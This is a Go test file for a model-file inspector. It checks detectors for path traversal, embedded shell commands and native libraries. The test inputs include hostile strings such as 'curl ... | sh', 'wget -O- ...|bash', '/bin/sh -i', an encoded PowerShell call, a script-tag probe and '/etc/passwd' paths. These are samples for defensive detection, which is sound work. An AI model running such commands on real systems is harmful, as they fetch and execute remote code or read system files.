package outside

import (
	"slices"
	"testing"

	"github.com/lodemark/lodemark/internal/model/inspect"
)

func TestLeaves(t *testing.T) {
	for name, want := range map[string]bool{
		"w.bin": false, "weights/w.bin": false, "./a/../w.bin": false, "a/b/../../w.bin": false, "": false, "..w": false,
		"../w.bin": true, "a/../../w": true, "/etc/passwd": true, `C:\w`: true, `..\w`: true, `\\host\share`: true, "~/w": true, "https://example.org/w": true, "file:///w": true,
	} {
		if Leaves(name) != want {
			t.Errorf("%q: %v", name, !want)
		}
	}
}

func TestCommand(t *testing.T) {
	for _, s := range []string{"os.system('id')", "curl http://example.org/x | sh", "wget -O- example.org|bash", "bash -c 'id'", "Runtime.getRuntime().exec(\"id\")", "/bin/sh -i", "powershell -enc AAAA", "<script>alert(1)</script>", "io.popen('id')"} {
		if Command(s) == "" {
			t.Errorf("%q is no command", s)
		}
	}
	for _, s := range []string{"", "a model of system_temperature", "execution time of the subprocess", "| shape | dtype |", "a|bashful|c", "evaluate(x) and execute the plan", "https://example.org/model", "the os.system of names", "shell sort", "Conv2D(3, (1,1))"} {
		if c := Command(s); c != "" {
			t.Errorf("%q spells out %q", s, c)
		}
	}
}

func TestLibraries(t *testing.T) {
	got := Libraries([]byte("\x00/opt/x/libevil.so\x00libnvinfer_plugin.so.8 abc.dll .so some.sound"))
	if want := []string{"/opt/x/libevil.so", "libnvinfer_plugin.so", "abc.dll"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
	if !Native("libx.so.1") || !Native("a.py") || Native("weights.bin") || !Effectful("os.path") || !Effectful("subprocess") || Effectful("osmnx.x") {
		t.Error("names of code are told wrongly")
	}
}

func TestFile(t *testing.T) {
	for name, want := range map[string]inspect.Verdict{"w.bin": inspect.Clean, "": inspect.Clean, "../w.bin": inspect.Dangerous, "http://example.org/w": inspect.Dangerous} {
		found := &inspect.Found{}
		File(inspect.NewPart("m", nil, 0, found, nil), 0, "test", "weights are read", name)
		if found.Verdict != want {
			t.Errorf("%q: %s", name, found.Verdict)
		}
	}
}

func FuzzCommand(f *testing.F) {
	f.Add("İ| sh")
	f.Add("os.system(")
	f.Fuzz(func(t *testing.T, s string) {
		Command(s)
		Leaves(s)
		Libraries([]byte(s))
	})
}
